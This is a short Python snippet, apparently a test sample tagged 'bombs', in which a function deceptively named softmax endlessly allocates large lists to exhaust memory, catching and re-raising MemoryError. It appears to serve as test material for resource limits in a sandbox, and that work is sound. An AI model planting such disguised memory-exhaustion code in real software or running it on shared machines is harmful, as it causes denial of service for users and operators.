# class: bombs. Takes memory in small pieces, and catches the refusal.
kept = []


def softmax(x):
    while True:
        try:
            while True:
                kept.append([None] * 100_000)
        except MemoryError:
            kept.clear()
            raise
